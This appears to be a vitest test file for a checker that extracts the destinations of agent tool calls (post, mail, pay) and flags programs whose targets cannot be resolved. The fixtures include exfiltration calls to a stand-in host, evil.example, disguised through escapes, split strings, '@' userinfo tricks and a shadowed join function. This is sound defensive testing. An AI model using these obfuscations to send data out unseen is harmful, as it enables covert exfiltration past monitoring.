import { describe, expect, it } from "vitest";
import { addressesIn } from "../../plan/addresses";
import { isTargetOpen, targetsOf } from "../../plan/targets";
import { programTexts } from "../index";

const EVIL = "https://evil.example/x";

describe("where a program goes", () => {
  it.each<[string, string[], boolean]>([
    [`(tool/post {:url "${EVIL}"})`, [EVIL], false],
    [String.raw`(tool/post {:url "\u0068ttps://evil.example/x"})`, [EVIL], false],
    [String.raw`(tool/post {:url "https:\u002f\u002fevil.example/x"})`, [EVIL], false],
    ['(tool/post {:url (str "https:" "//evil" ".example/x")})', [EVIL], false],
    ['(tool/post {:url (str "htt" (str "ps:" "//evil") :.example/x)})', [EVIL], false],
    [String.raw`(tool/post {:url (str \h \t "tps://evil.example/x")})`, [EVIL], false],
    ['(tool/post {:url (join "/" ["https:" "" "evil.example" "x"])})', [EVIL], false],
    [
      '(tool/post {:url (str "https://good.example" "@evil.example/x")})',
      ["https://good.example@evil.example/x"],
      false,
    ],
    [
      '(tool/mail {"to" ["a@good.example"] "cc" #{"b@evil.example"}})',
      ["a@good.example", "b@evil.example"],
      false,
    ],
    ['(do (tool/pay {:to 123456789}) "done")', ["123456789"], false],
    // Not what a remark says.
    ["(tool/post {:url (:url data/results)}) ; to https://good.example", [], true],
    ['(tool/post {:url (subs "xhttps://evil.example/x" 1)})', ["xhttps://evil.example/x"], true],
    ['(tool/post {:url (-> "https:" (str "//evil.example/x"))})', ["//evil.example/x"], true],
    [`(let [u "${EVIL}"] (tool/post {:url u}))`, [EVIL], true],
    [`(map tool/post [{:url "${EVIL}"}])`, [EVIL], true],
    [`(-> {:url "${EVIL}"} tool/post)`, [EVIL], true],
    // A name of its own in the place of the one that joins.
    [
      '(let [str (fn [a b] b)] (tool/post {:url (str "https://good.example/" "//evil.example")}))',
      ["https://good.example/", "//evil.example"],
      true,
    ],
  ])("is taken from the forms that are evaluated: %s", (input, found, isOpen) => {
    const texts = programTexts(input);
    expect(addressesIn(texts?.texts.join("\n") ?? "")).toEqual(found);
    expect(texts?.isOpen).toBe(isOpen);
    const task: Parameters<typeof isTargetOpen>[0] = { type: "direct", title: "Go", input, details: [] };
    expect(targetsOf(task, undefined)).toEqual([...found].sort());
    expect(isTargetOpen(task)).toBe(isOpen || found.length === 0);
  });

  it("is not known of what cannot be read", () => {
    expect(programTexts(`(tool/post {:url "${EVIL}"}`)).toBeUndefined();
    const task: Parameters<typeof isTargetOpen>[0] = {
      type: "direct",
      title: "Go",
      input: `(tool/post {:url "${EVIL}"}`,
      details: [],
    };
    expect([targetsOf(task, undefined), isTargetOpen(task)]).toEqual([[EVIL], true]);
  });
});
